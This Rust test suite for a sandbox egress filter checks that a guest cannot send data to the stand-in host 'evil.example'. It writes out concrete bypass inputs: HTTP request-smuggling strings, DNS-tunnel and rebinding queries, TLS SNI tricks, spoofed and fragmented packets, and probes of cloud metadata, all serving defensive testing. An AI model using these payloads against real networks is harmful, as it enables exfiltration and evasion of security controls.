//! The bypass suite: a guest that owns its kernel tries to get something out. Servers on addresses that look public
//! wait for it in a network namespace; nothing may arrive. `docs/egress.md` lists the attempts.

mod common;
#[path = "common/frames.rs"]
mod frames;

use std::io::Read;
use std::net::{IpAddr, SocketAddr, TcpListener, UdpSocket};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use cabana_egress_host::{Egress, EgressConfig, EgressPolicy, Event, SessionPolicy, What, egress};
use cabana_netstack::testing::Guest;
use cabana_netstack::{
    GATEWAY_MAC, GATEWAY_V4, GATEWAY_V6, GUEST_MAC, MACHINE_V4, MACHINE_V6, Network,
    session_addresses, session_mac,
};
use cabana_os::EventLoop;
use common::{EVIL, GOOD, Log, Names, in_namespace, network, wait};
use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::{Name, RecordType};
use smoltcp::iface::SocketHandle;
use smoltcp::socket::tcp::{Socket, State};
use smoltcp::wire::TcpControl;

/// What never may arrive anywhere, and a name that never may be asked for.
const LEAK: &str = "evil.example";
const EVIL_V6: &str = "2001:4860::66";
const OTHER_SESSION_HOST: &str = "198.51.100.7";

/// Where something arrived, and what.
type Arrival = (SocketAddr, Vec<u8>);

/// Everything that arrived.
#[derive(Clone, Default)]
struct Sinks(Arc<Mutex<Vec<Arrival>>>);

impl Sinks {
    /// Notes every connection to `address`, and what comes over it.
    fn tcp(&self, address: &str) {
        let listener = TcpListener::bind(address).unwrap();
        let (sinks, address) = (self.clone(), listener.local_addr().unwrap());
        thread::spawn(move || {
            for stream in listener.incoming() {
                let mut stream = stream.unwrap();
                let sinks = sinks.clone();
                let index = {
                    let mut all = sinks.0.lock().unwrap();
                    all.push((address, Vec::new()));
                    all.len() - 1
                };
                thread::spawn(move || {
                    let mut buffer = [0; 4096];
                    while let Ok(count @ 1..) = stream.read(&mut buffer) {
                        sinks.0.lock().unwrap()[index].1.extend_from_slice(&buffer[..count]);
                    }
                });
            }
        });
    }

    fn udp(&self, address: &str) {
        let socket = UdpSocket::bind(address).unwrap();
        let (sinks, address) = (self.clone(), socket.local_addr().unwrap());
        thread::spawn(move || {
            let mut buffer = [0; 4096];
            while let Ok((count, _)) = socket.recv_from(&mut buffer) {
                sinks.0.lock().unwrap().push((address, buffer[..count].to_vec()));
            }
        });
    }

    /// What arrived that should not have: anything at another address than the allowed one, and there whatever
    /// speaks of another host.
    fn leaks(&self) -> Vec<String> {
        let good: IpAddr = GOOD.parse().unwrap();
        let holds = |bytes: &[u8]| bytes.windows(LEAK.len()).any(|part| part == LEAK.as_bytes());
        let all = self.0.lock().unwrap();
        all.iter()
            .filter(|(address, bytes)| address.ip() != good || address.port() == 53 || holds(bytes))
            .map(|(address, bytes)| format!("{address} got {}", bytes.escape_ascii()))
            .collect()
    }
}

struct Lab {
    guest: Guest,
    egress: Egress,
    names: Names,
    log: Log,
    sinks: Sinks,
    next: u16,
    failures: Vec<String>,
    attempts: Vec<&'static str>,
    network: Network,
    _events: EventLoop,
}

fn policy() -> EgressPolicy {
    let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect();
    let other = SessionPolicy { allow: words(&["other.example"]), ..SessionPolicy::default() };
    EgressPolicy {
        allow: words(&["a.example", "*.wild.example", "tcp://a.example:8080"]),
        session: [("other".to_owned(), other)].into(),
        ..EgressPolicy::default()
    }
}

fn addr(text: &str) -> SocketAddr {
    text.parse().unwrap()
}

fn me(port: u16) -> SocketAddr {
    SocketAddr::new(MACHINE_V4.into(), port)
}

impl Lab {
    fn new() -> Self {
        let sinks = Sinks::default();
        for host in
            [EVIL, OTHER_SESSION_HOST, "169.254.169.254", "10.9.9.9", "192.168.7.7", "100.64.7.7"]
        {
            for port in [22, 53, 80, 443, 853, 8080] {
                sinks.tcp(&format!("{host}:{port}"));
            }
            for port in [53, 123, 443, 5000] {
                sinks.udp(&format!("{host}:{port}"));
            }
        }
        for host in [EVIL_V6, "64:ff9b::c633:6442", "2002:c633:6442::1", "fd99::1"] {
            sinks.tcp(&format!("[{host}]:80"));
            sinks.tcp(&format!("[{host}]:443"));
            sinks.udp(&format!("[{host}]:53"));
        }
        for port in [22, 80, 8080] {
            sinks.tcp(&format!("127.0.0.1:{port}"));
        }
        for port in [22, 53, 80, 443, 8080] {
            sinks.tcp(&format!("{GOOD}:{port}"));
        }
        sinks.udp(&format!("{GOOD}:443"));
        sinks.udp(&format!("{GOOD}:53"));

        let (names, log) = (Names::default(), Log::default());
        names.set("a.example", &[GOOD]);
        names.set("other.example", &[OTHER_SESSION_HOST]);
        names.set(LEAK, &[EVIL]);
        names.set("ipv4only.arpa", &["2001:db8:64::c000:aa"]);
        let (egress, gate) = egress(EgressConfig {
            policy: policy(),
            resolver: Arc::new(names.clone()),
            ..EgressConfig::default()
        })
        .unwrap();
        egress.listen(log.listener());
        egress.assign(MACHINE_V4.into(), None);
        egress.assign(MACHINE_V6.into(), None);
        let (v4, v6) = session_addresses(1).unwrap();
        egress.assign(v4.into(), Some("other".to_owned()));
        egress.assign(v6.into(), Some("other".to_owned()));
        let (guest, network, events) = network(gate);
        let (failures, attempts) = (Vec::new(), Vec::new());
        Self {
            guest,
            egress,
            names,
            log,
            sinks,
            next: 20_000,
            failures,
            attempts,
            network,
            _events: events,
        }
    }

    /// One attempt, and a look at what arrived. The attempt says what went wrong that left no trace at a server.
    fn attempt(&mut self, name: &'static str, act: impl FnOnce(&mut Self) -> bool) {
        self.attempts.push(name);
        let stopped = act(self);
        if !stopped {
            self.failures.push(format!("{name}: it was not stopped"));
        }
        for leak in self.sinks.leaks() {
            self.failures.push(format!("{name} or one before it: {leak}"));
        }
        self.sinks.0.lock().unwrap().clear();
    }

    /// Asks for a name from an address; the code and how many addresses came.
    fn ask_from(&mut self, from: IpAddr, name: &str, kind: RecordType) -> (ResponseCode, usize) {
        let mut message = Message::new(self.next, MessageType::Query, OpCode::Query);
        message.add_query(Query::query(Name::from_ascii(name).unwrap(), kind));
        let reply = self.exchange(from, &message.to_vec().unwrap());
        let reply = Message::from_vec(&reply).unwrap();
        (reply.metadata.response_code, reply.answers.len())
    }

    fn exchange(&mut self, from: IpAddr, message: &[u8]) -> Vec<u8> {
        self.next += 1;
        let port = self.next;
        let gateway = SocketAddr::new(GATEWAY_V4.into(), 53);
        self.guest.send_frame(frames::udp(SocketAddr::new(from, port), gateway, message));
        self.guest.wait_frame(|frame| {
            frames::as_udp(frame).filter(|(_, to, _)| *to == port).map(|(_, _, bytes)| bytes)
        })
    }

    fn ask(&mut self, name: &str) -> (ResponseCode, usize) {
        self.ask_from(MACHINE_V4.into(), name, RecordType::A)
    }

    /// The name leads nowhere.
    fn unknown(&mut self, name: &str, kind: RecordType) -> bool {
        self.ask_from(MACHINE_V4.into(), name, kind) == (ResponseCode::NXDomain, 0)
    }

    /// Whether a connection is refused.
    fn refused(&mut self, to: &str) -> bool {
        let handle = self.guest.connect(addr(to));
        self.guest.wait(handle, |socket| match socket.state() {
            State::Closed => Some(true),
            State::Established | State::CloseWait => Some(false),
            _ => None,
        })
    }

    /// Whether nothing comes of a connection, which may be dropped without a word.
    fn nothing_comes(&mut self, handle: SocketHandle) -> bool {
        thread::sleep(Duration::from_millis(100));
        !matches!(self.guest.state(handle), State::Established | State::CloseWait)
    }

    /// Opens a connection to the allowed host and says this; whether it is reset for it.
    fn says(&mut self, port: u16, bytes: &[u8]) -> bool {
        self.ask("a.example.");
        let handle = self.guest.connect(addr(&format!("{GOOD}:{port}")));
        self.say(handle, bytes);
        self.reset(handle)
    }

    fn say(&mut self, handle: SocketHandle, bytes: &[u8]) {
        let mut sent = 0;
        self.guest.wait(handle, |socket| {
            if socket.may_send() {
                sent += socket.send_slice(&bytes[sent..]).unwrap_or(0);
            }
            (sent == bytes.len() || socket.state() == State::Closed).then_some(())
        });
    }

    fn reset(&mut self, handle: SocketHandle) -> bool {
        self.guest.wait(handle, |socket: &mut Socket<'_>| {
            matches!(socket.state(), State::Closed | State::CloseWait).then_some(true)
        })
    }

    /// Sends frames that nobody may answer or pass on.
    fn throw(&mut self, frames: impl IntoIterator<Item = Vec<u8>>) -> bool {
        for frame in frames {
            self.guest.send_frame(frame);
        }
        let answers = self.guest.frames();
        let to_evil = |event: &Event| match &event.what {
            What::Flow { verdict, .. } => verdict.allowed,
            _ => false,
        };
        // Whatever comes back must not be a server's word; an ICMP error quotes the guest's own.
        let answered = answers
            .iter()
            .filter_map(|frame| frames::as_udp(frame))
            .any(|(_, _, bytes)| bytes.windows(LEAK.len()).any(|part| part == LEAK.as_bytes()));
        !answered && !self.log.all().iter().rev().take(1).any(to_evil)
    }

    fn denied(&self, code: &str) -> bool {
        let all = self.log.all();
        let last =
            all.last().map(|event| serde_json::to_string(event).unwrap()).unwrap_or_default();
        last.contains(code)
    }
}

fn vector16(bytes: &[u8]) -> Vec<u8> {
    [&(bytes.len() as u16).to_be_bytes(), bytes].concat()
}

/// A `ClientHello` message for these names, with more extensions.
fn hello(names: &[&str], more: &[u8]) -> Vec<u8> {
    let list: Vec<u8> =
        names.iter().flat_map(|name| [vec![0], vector16(name.as_bytes())].concat()).collect();
    let mut extensions = more.to_vec();
    if !names.is_empty() {
        extensions.extend([0, 0]);
        extensions.extend(vector16(&vector16(&list)));
    }
    let mut body = [vec![3, 3], vec![7; 32], vec![0, 0, 2, 0x13, 1, 1, 0]].concat();
    body.extend(vector16(&extensions));
    let length = (body.len() as u32).to_be_bytes();
    [&[1], &length[1..], &body].concat()
}

fn record(kind: u8, content: &[u8]) -> Vec<u8> {
    [&[kind, 3, 1], &vector16(content)[..]].concat()
}

fn get(host: &str) -> String {
    format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n")
}

#[test]
fn nothing_gets_through() {
    if !in_namespace("nothing_gets_through") {
        return;
    }
    let mut lab = Lab::new();
    works(&mut lab);
    addresses(&mut lab);
    names(&mut lab);
    sources(&mut lab);
    cards(&mut lab);
    tls(&mut lab);
    http(&mut lab);
    packets(&mut lab);
    assert!(!lab.names.asked().iter().any(|name| name.contains("evil")), "{:?}", lab.names.asked());
    reloads(&mut lab);
    assert!(lab.failures.is_empty(), "{:#?}", lab.failures);
    println!("{} attempts, nothing got through", lab.attempts.len());

    let guide = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/egress.md");
    let guide = std::fs::read_to_string(guide).unwrap();
    for attempt in &lab.attempts {
        assert!(
            guide.contains(&format!("| `{attempt}` |")),
            "docs/egress.md does not list {attempt}"
        );
    }
    assert!(lab.attempts.len() >= 50, "{}", lab.attempts.len());
}

/// What is allowed does work, or else the rest would prove nothing.
fn works(lab: &mut Lab) {
    assert_eq!(lab.ask("a.example."), (ResponseCode::NoError, 1));
    for (port, bytes) in [
        (80, get("a.example").into_bytes()),
        (443, record(22, &hello(&["a.example"], &[]))),
        (8080, b"\x00binary".to_vec()),
    ] {
        let handle = lab.guest.connect(addr(&format!("{GOOD}:{port}")));
        lab.say(handle, &bytes);
        let sinks = lab.sinks.clone();
        wait(
            || sinks.0.lock().unwrap().iter().any(|(_, got)| *got == bytes).then_some(()),
            || format!("port {port}: {:?}", lab.log.all()),
        );
        lab.guest.socket(handle, Socket::abort);
    }
    lab.sinks.0.lock().unwrap().clear();
}

fn addresses(lab: &mut Lab) {
    for (name, to) in [
        ("direct-address", format!("{EVIL}:443")),
        ("direct-address-odd-port", format!("{EVIL}:8080")),
        ("direct-address-ipv6", format!("[{EVIL_V6}]:443")),
        ("private-10", "10.9.9.9:80".to_owned()),
        ("private-192-168", "192.168.7.7:80".to_owned()),
        ("carrier-grade-nat", "100.64.7.7:80".to_owned()),
        ("cloud-metadata", "169.254.169.254:80".to_owned()),
        ("unique-local-ipv6", "[fd99::1]:80".to_owned()),
        ("nat64-literal", "[64:ff9b::c633:6442]:443".to_owned()),
        ("6to4-literal", "[2002:c633:6442::1]:443".to_owned()),
        ("dns-over-tls", format!("{EVIL}:853")),
        ("dns-over-https-by-address", format!("{EVIL}:443")),
        ("dns-other-server-tcp", format!("{EVIL}:53")),
        ("allowed-host-other-port", format!("{GOOD}:22")),
        ("allowed-host-dns-port", format!("{GOOD}:53")),
    ] {
        lab.attempt(name, |lab| lab.refused(&to));
    }
    lab.attempt("gateway-other-port", |lab| lab.refused(&format!("{GATEWAY_V4}:22")));
    for (name, to) in [
        ("host-loopback", "127.0.0.1:8080"),
        ("host-zero-address", "0.0.0.0:8080"),
        ("ipv4-broadcast", "255.255.255.255:5000"),
    ] {
        lab.attempt(name, |lab| {
            lab.throw([frames::syn(me(1), addr(to)), frames::udp(me(1), addr(to), LEAK.as_bytes())])
        });
    }
    let v6 = |port| SocketAddr::new(MACHINE_V6.into(), port);
    for (name, to) in [
        ("ipv4-mapped-ipv6", "[::ffff:198.51.100.66]:80"),
        ("ipv4-compatible-ipv6", "[::198.51.100.66]:80"),
        ("ipv6-loopback", "[::1]:80"),
        ("ipv6-link-local", "[fe80::1]:80"),
        ("ipv6-multicast", "[ff02::fb]:5353"),
        ("teredo-literal", "[2001:0:c633:6442::1]:80"),
    ] {
        lab.attempt(name, |lab| {
            lab.throw([frames::syn(v6(1), addr(to)), frames::udp(v6(1), addr(to), LEAK.as_bytes())])
        });
    }
    lab.attempt("ipv4-multicast", |lab| {
        lab.throw([frames::udp(me(1), addr("224.0.0.251:5353"), LEAK.as_bytes())])
    });
    for (name, to) in [
        ("udp-tunnel", format!("{EVIL}:5000")),
        ("dns-other-server-udp", format!("{EVIL}:53")),
        ("ntp-tunnel", format!("{EVIL}:123")),
        ("quic-to-allowed-host", format!("{GOOD}:443")),
        ("dns-to-allowed-host", format!("{GOOD}:53")),
    ] {
        lab.attempt(name, |lab| lab.throw([frames::udp(me(9), addr(&to), LEAK.as_bytes())]));
    }
    for (name, to) in [("icmp-tunnel", EVIL), ("icmp-to-allowed-host", GOOD)] {
        lab.attempt(name, |lab| {
            lab.throw([frames::ping(MACHINE_V4.into(), to.parse().unwrap(), LEAK.as_bytes())])
                && lab.denied("\"allowed\":false")
        });
    }
}

fn names(lab: &mut Lab) {
    lab.attempt("dns-other-name", |lab| lab.unknown("evil.example.", RecordType::A));
    lab.attempt("dns-tunnel-in-labels", |lab| {
        lab.unknown("c2VjcmV0.bXkga2V5.t.evil.example.", RecordType::A)
    });
    lab.attempt("dns-tunnel-by-txt", |lab| lab.unknown("data.evil.example.", RecordType::TXT));
    lab.attempt("dns-records-of-an-allowed-name", |lab| {
        [RecordType::TXT, RecordType::HTTPS, RecordType::NULL, RecordType::CNAME, RecordType::ANY]
            .into_iter()
            .all(|kind| {
                lab.ask_from(MACHINE_V4.into(), "a.example.", kind) == (ResponseCode::NoError, 0)
            })
    });
    lab.attempt("dns-reverse-lookup", |lab| {
        lab.unknown("66.100.51.198.in-addr.arpa.", RecordType::PTR)
    });
    lab.attempt("dns-suffix-trick", |lab| {
        lab.unknown("a.example.evil.example.", RecordType::A)
            && lab.unknown("notwild.example.", RecordType::A)
            && lab.unknown("wild.example.", RecordType::A)
    });
    lab.attempt("dns-number-as-name", |lab| {
        lab.unknown("0x7f000001.", RecordType::A) && lab.unknown("2130706433.", RecordType::A)
    });
    lab.attempt("dns-escaped-dot", |lab| lab.unknown("evil\\.wild.example.", RecordType::A));
    for (name, host, address) in [
        ("rebinding-to-loopback", "r1.wild.example", "127.0.0.1"),
        ("rebinding-to-private", "r2.wild.example", "10.9.9.9"),
        ("rebinding-to-metadata", "r3.wild.example", "169.254.169.254"),
        ("rebinding-to-zero", "r4.wild.example", "0.0.0.0"),
        ("rebinding-to-cgnat", "r5.wild.example", "100.64.7.7"),
    ] {
        lab.names.set(host, &[address]);
        lab.attempt(name, |lab| {
            let known = lab.unknown(&format!("{host}."), RecordType::A);
            known
                && (address == "127.0.0.1"
                    || address == "0.0.0.0"
                    || lab.refused(&format!("{address}:80")))
        });
    }
    for (name, host, address) in [
        ("rebinding-to-mapped-ipv6", "r6.wild.example", "::ffff:10.9.9.9"),
        ("rebinding-to-unique-local", "r7.wild.example", "fd99::1"),
        ("rebinding-through-nat64", "r8.wild.example", "64:ff9b::a09:909"),
        ("rebinding-through-own-nat64", "r9.wild.example", "2001:db8:64::a09:909"),
    ] {
        lab.names.set(host, &[address]);
        lab.attempt(name, |lab| lab.unknown(&format!("{host}."), RecordType::AAAA));
    }
    lab.attempt("rebinding-later", |lab| {
        lab.names.set("later.wild.example", &[GOOD]);
        let first = lab.ask("later.wild.example.") == (ResponseCode::NoError, 1);
        lab.names.set("later.wild.example", &["10.9.9.9"]);
        first && lab.unknown("later.wild.example.", RecordType::A) && lab.refused("10.9.9.9:80")
    });
    lab.attempt("rebinding-among-good-answers", |lab| {
        lab.names.set("mixed.wild.example", &["10.9.9.9", GOOD, "127.0.0.1"]);
        lab.ask("mixed.wild.example.") == (ResponseCode::NoError, 1) && lab.refused("10.9.9.9:443")
    });
    lab.attempt("dns-two-questions", |lab| {
        let mut message = Message::new(1, MessageType::Query, OpCode::Query);
        for name in ["a.example.", "evil.example."] {
            message.add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
        }
        let reply = lab.exchange(MACHINE_V4.into(), &message.to_vec().unwrap());
        Message::from_vec(&reply).unwrap().metadata.response_code == ResponseCode::FormErr
    });
    lab.attempt("dns-forged-answer", |lab| {
        let mut message = Message::response(1, OpCode::Query);
        message.add_query(Query::query(Name::from_ascii("a.example.").unwrap(), RecordType::A));
        let to = SocketAddr::new(GATEWAY_V4.into(), 53);
        let frame = frames::udp(me(53), to, &message.to_vec().unwrap());
        lab.throw([frame]) && lab.refused(&format!("{EVIL}:80"))
    });
    lab.attempt("dns-update", |lab| {
        let mut message = Message::new(1, MessageType::Query, OpCode::Update);
        message.add_query(Query::query(Name::from_ascii("a.example.").unwrap(), RecordType::SOA));
        let reply = lab.exchange(MACHINE_V4.into(), &message.to_vec().unwrap());
        Message::from_vec(&reply).unwrap().metadata.response_code == ResponseCode::NotImp
    });
}

fn sources(lab: &mut Lab) {
    let other: IpAddr = session_addresses(1).unwrap().0.into();
    lab.attempt("name-of-another-session", |lab| lab.unknown("other.example.", RecordType::A));
    lab.attempt("own-name-as-another-session", |lab| {
        lab.ask_from(other, "a.example.", RecordType::A) == (ResponseCode::NXDomain, 0)
    });
    lab.attempt("address-that-another-session-was-given", |lab| {
        lab.ask_from(other, "other.example.", RecordType::A) == (ResponseCode::NoError, 1)
            && lab.refused(&format!("{OTHER_SESSION_HOST}:443"))
    });
    let nobody: IpAddr = session_addresses(9).unwrap().0.into();
    for (name, from) in [
        ("source-of-no-session", nobody),
        ("source-outside-the-guest", "203.0.113.5".parse().unwrap()),
        ("source-of-the-gateway", GATEWAY_V4.into()),
        ("source-of-the-allowed-host", GOOD.parse().unwrap()),
        ("source-loopback", "127.0.0.1".parse().unwrap()),
    ] {
        let from = SocketAddr::new(from, 4000);
        lab.attempt(name, |lab| {
            let message = LEAK.as_bytes();
            lab.throw([
                frames::syn(from, addr(&format!("{GOOD}:80"))),
                frames::udp(from, addr(&format!("{EVIL}:53")), message),
                frames::udp(from, SocketAddr::new(GATEWAY_V4.into(), 53), message),
            ])
        });
    }
}

/// Packets with a session's addresses, in frames of another's card. The session may do what they ask for.
fn cards(lab: &mut Lab) {
    let (v4, v6) = session_addresses(1).unwrap();
    let (v4, v6) = (SocketAddr::new(v4.into(), 4100), SocketAddr::new(v6.into(), 4100));
    let mut question = Message::new(7, MessageType::Query, OpCode::Query);
    let name = Name::from_ascii("other.example.").unwrap();
    question.add_query(Query::query(name, RecordType::A));
    let question = question.to_vec().unwrap();
    for (name, card) in [
        ("session-address-by-the-machines-card", GUEST_MAC),
        ("session-address-by-another-sessions-card", session_mac(2)),
        ("session-address-by-a-card-of-nobody", session_mac(0)),
        ("session-address-by-the-gateways-card", GATEWAY_MAC),
    ] {
        lab.attempt(name, |lab| {
            let mut frames = [
                frames::syn(v4, addr(&format!("{OTHER_SESSION_HOST}:443"))),
                frames::udp(v4, SocketAddr::new(GATEWAY_V4.into(), 53), &question),
                frames::syn(v6, addr(&format!("[{EVIL_V6}]:443"))),
                frames::udp(v6, SocketAddr::new(GATEWAY_V6.into(), 53), &question),
            ];
            for frame in &mut frames {
                frame[6..12].copy_from_slice(&card.0);
            }
            let forged = lab.network.counters().stack.forged;
            let count = frames.len() as u64;
            lab.throw(frames) && lab.network.counters().stack.forged == forged + count
        });
    }
}

fn tls(lab: &mut Lab) {
    let good = hello(&["a.example"], &[]);
    let evil = hello(&[LEAK], &[]);
    let ech = [&[0xfe, 0x0d][..], &vector16(&[0; 60])].concat();
    let split: Vec<u8> = evil.chunks(7).flat_map(|part| record(22, part)).collect();
    let again = [record(22, &good), record(20, &[1]), record(22, &evil)].concat();
    let glued = record(22, &[good.clone(), evil.clone()].concat());
    for (name, port, bytes) in [
        ("tls-other-name", 443, record(22, &evil)),
        ("tls-no-name", 443, record(22, &hello(&[], &[]))),
        ("tls-two-names", 443, record(22, &hello(&["a.example", LEAK], &[]))),
        ("tls-address-as-name", 443, record(22, &hello(&[GOOD], &[]))),
        ("tls-name-with-a-zero-byte", 443, record(22, &hello(&["a.example\0evil.example"], &[]))),
        ("tls-encrypted-client-hello", 443, record(22, &hello(&["a.example"], &ech))),
        ("tls-other-name-in-pieces", 443, split),
        ("tls-second-hello", 443, again),
        ("tls-two-hellos-in-a-record", 443, glued),
        ("tls-ssl2-hello", 443, b"\x80\x2e\x01\x00\x02evil.example".to_vec()),
        ("tls-port-without-tls", 443, get(LEAK).into_bytes()),
        ("tls-on-the-http-port", 80, record(22, &evil)),
        ("tls-other-name-on-an-odd-port", 8080, record(22, &evil)),
    ] {
        lab.attempt(name, |lab| lab.says(port, &bytes));
    }
}

fn http(lab: &mut Lab) {
    let evil = get(LEAK);
    let head = "POST / HTTP/1.1\r\nHost: a.example\r\n";
    let upgrade = "GET / HTTP/1.1\r\nHost: a.example\r\nUpgrade: websocket\r\n\r\n";
    for (name, port, text) in [
        ("http-other-host", 80, evil.clone()),
        ("http-second-request", 80, get("a.example") + &evil),
        (
            "http-whole-url",
            80,
            "GET http://evil.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n".to_owned(),
        ),
        (
            "http-url-with-a-user",
            80,
            "GET http://a.example@evil.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n".to_owned(),
        ),
        (
            "http-two-hosts",
            80,
            "GET / HTTP/1.1\r\nHost: a.example\r\nHost: evil.example\r\n\r\n".to_owned(),
        ),
        ("http-no-host", 80, "GET /evil.example HTTP/1.0\r\n\r\n".to_owned()),
        ("http-address-as-host", 80, format!("GET /evil.example HTTP/1.1\r\nHost: {GOOD}\r\n\r\n")),
        (
            "http-connect",
            80,
            "CONNECT evil.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n".to_owned(),
        ),
        (
            "http-connect-to-the-allowed-host",
            80,
            format!("CONNECT a.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n{evil}"),
        ),
        (
            "http-upgrade-to-http2",
            80,
            format!("GET / HTTP/1.1\r\nHost: a.example\r\nUpgrade: h2c\r\n\r\n{evil}"),
        ),
        ("http2-without-tls", 80, format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{evil}")),
        ("http-request-after-websocket", 80, upgrade.to_owned() + &evil),
        (
            "http-smuggling-cl-te",
            80,
            format!("{head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{evil}"),
        ),
        (
            "http-smuggling-te-cl",
            80,
            format!("{head}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{evil}"),
        ),
        (
            "http-smuggling-two-lengths",
            80,
            format!("{head}Content-Length: 0\r\nContent-Length: 44\r\n\r\n{evil}"),
        ),
        (
            "http-smuggling-te-in-disguise",
            80,
            format!("{head}Transfer-Encoding: xchunked\r\n\r\n{evil}"),
        ),
        (
            "http-smuggling-space-before-colon",
            80,
            format!("{head}Content-Length : 44\r\n\r\n{evil}"),
        ),
        (
            "http-smuggling-folded-line",
            80,
            format!("{head}X: y\r\n Content-Length: 44\r\n\r\n{evil}"),
        ),
        ("http-smuggling-bare-newline", 80, format!("GET / HTTP/1.1\nHost: a.example\n\n{evil}")),
        (
            "http-smuggling-long-chunk",
            80,
            format!("{head}Transfer-Encoding: chunked\r\n\r\n1\r\nab{evil}"),
        ),
        (
            "http-smuggling-after-chunks",
            80,
            format!("{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{evil}"),
        ),
        ("http-empty-line-first", 80, format!("\r\n{evil}")),
        ("http-port-without-http", 80, "evil.example\r\n\r\n".to_owned()),
        ("http-on-an-odd-port", 8080, evil.clone()),
        (
            "http-in-disguise-on-an-odd-port",
            8080,
            format!("\n\r\nfrob\t/ http/1.1\nHost: {LEAK}\n\n"),
        ),
        ("http2-on-an-odd-port", 8080, format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{evil}")),
    ] {
        lab.attempt(name, |lab| lab.says(port, text.as_bytes()));
    }
    lab.attempt("http-redirect", |lab| {
        // A server that is allowed sends its client elsewhere: the client is as stuck there as before.
        lab.unknown("evil.example.", RecordType::A) && lab.refused(&format!("{EVIL}:80"))
    });
    lab.attempt("http-host-byte-by-byte", |lab| {
        lab.ask("a.example.");
        let handle = lab.guest.connect(addr(&format!("{GOOD}:80")));
        for byte in evil.bytes() {
            lab.say(handle, &[byte]);
        }
        lab.reset(handle)
    });
}

fn packets(lab: &mut Lab) {
    let evil = addr(&format!("{EVIL}:80"));
    let whole = frames::udp(me(7), addr(&format!("{EVIL}:53")), &[LEAK.as_bytes(); 4].concat());
    lab.attempt("fragments", |lab| lab.throw(frames::fragments(&whole, 24, 24)));
    lab.attempt("fragments-that-overlap", |lab| lab.throw(frames::fragments(&whole, 32, 8)));
    let syn = frames::syn(me(8), evil);
    lab.attempt("fragments-of-a-segment", |lab| lab.throw(frames::fragments(&syn, 8, 8)));
    // A first fragment that looks allowed and a second one that rewrites its ports.
    let good = frames::syn(me(8), addr(&format!("{GOOD}:80")));
    lab.attempt("fragments-that-rewrite-ports", |lab| {
        let [first, _] = frames::fragments(&good, 8, 8);
        let [_, second] = frames::fragments(&syn, 8, 0);
        lab.throw([first, second])
    });
    let payload = |from, to| frames::segment(from, to, TcpControl::Psh, true, LEAK.as_bytes());
    lab.attempt("segment-without-a-connection", |lab| {
        let content = payload(me(10), evil);
        lab.throw([frames::ip(me(10).ip(), evil.ip(), 6, &content)])
    });
    lab.attempt("data-in-the-syn", |lab| {
        let content = frames::segment(me(11), evil, TcpControl::Syn, false, LEAK.as_bytes());
        lab.throw([frames::ip(me(11).ip(), evil.ip(), 6, &content)])
    });
    let inner = frames::udp(me(12), addr(&format!("{EVIL}:53")), LEAK.as_bytes())[14..].to_vec();
    for (name, protocol) in [
        ("ip-in-ip", 4),
        ("ipv6-in-ipv4", 41),
        ("gre", 47),
        ("esp", 50),
        ("sctp", 132),
        ("udp-lite", 136),
        ("igmp", 2),
        ("unknown-protocol", 253),
    ] {
        lab.attempt(name, |lab| lab.throw([frames::ip(me(0).ip(), evil.ip(), protocol, &inner)]));
    }
    let v6: IpAddr = MACHINE_V6.into();
    let evil_v6: IpAddr = EVIL_V6.parse().unwrap();
    let inside = frames::udp(SocketAddr::new(v6, 1), SocketAddr::new(evil_v6, 53), LEAK.as_bytes())
        [54..]
        .to_vec();
    for (name, kind) in [
        ("ipv6-hop-by-hop-options", 0),
        ("ipv6-routing-header", 43),
        ("ipv6-fragment-header", 44),
        ("ipv6-destination-options", 60),
    ] {
        let content = [&[17, 0, 0, 0, 0, 0, 0, 0], &inside[..]].concat();
        lab.attempt(name, |lab| lab.throw([frames::ip(v6, evil_v6, kind, &content)]));
    }
    lab.attempt("source-route-option", |lab| {
        let mut frame = frames::udp(me(13), addr(&format!("{GOOD}:53")), LEAK.as_bytes());
        // A header of 28 bytes: loose source route through the other host (RFC 791 §3.1).
        frame[14] = 0x47;
        let address: std::net::Ipv4Addr = EVIL.parse().unwrap();
        let option = [&[131, 7, 4][..], &address.octets(), &[0]].concat();
        frame.splice(34..34, option);
        lab.throw([frame])
    });
    lab.attempt("vlan-tag", |lab| {
        let mut frame = frames::udp(me(14), addr(&format!("{EVIL}:53")), LEAK.as_bytes());
        frame.splice(12..12, [0x81, 0, 0, 5]);
        lab.throw([frame])
    });
    lab.attempt("foreign-hardware-address", |lab| {
        let mut frame = frames::udp(me(15), addr(&format!("{EVIL}:53")), LEAK.as_bytes());
        frame[..12].copy_from_slice(&[0xff; 12]);
        lab.throw([frame])
    });
    lab.attempt("icmp-redirect", |lab| {
        let content = [&[5, 1, 0, 0, 198, 51, 100, 66][..], LEAK.as_bytes()].concat();
        lab.throw([frames::ip(me(0).ip(), GATEWAY_V4.into(), 1, &content)])
    });
}

fn reloads(lab: &mut Lab) {
    lab.attempt("reload-while-connected", |lab| {
        lab.ask("a.example.");
        let handle = lab.guest.connect(addr(&format!("{GOOD}:80")));
        lab.say(handle, get("a.example").as_bytes());
        lab.egress.reload(&EgressPolicy::default()).unwrap();
        let reset = lab.reset(handle);
        lab.say(handle, LEAK.as_bytes());
        reset && lab.refused(&format!("{GOOD}:80"))
    });
    lab.attempt("answer-kept-across-a-reload", |lab| {
        lab.egress.reload(&policy()).unwrap();
        lab.ask("a.example.");
        let without = EgressPolicy { allow: vec!["b.example".to_owned()], ..policy() };
        lab.egress.reload(&without).unwrap();
        lab.refused(&format!("{GOOD}:443"))
    });
    lab.attempt("host-finished-after-a-reload", |lab| {
        let both =
            EgressPolicy { allow: vec!["a.example".to_owned(), LEAK.to_owned()], ..policy() };
        lab.names.set(LEAK, &[GOOD]);
        lab.egress.reload(&both).unwrap();
        lab.ask("a.example.");
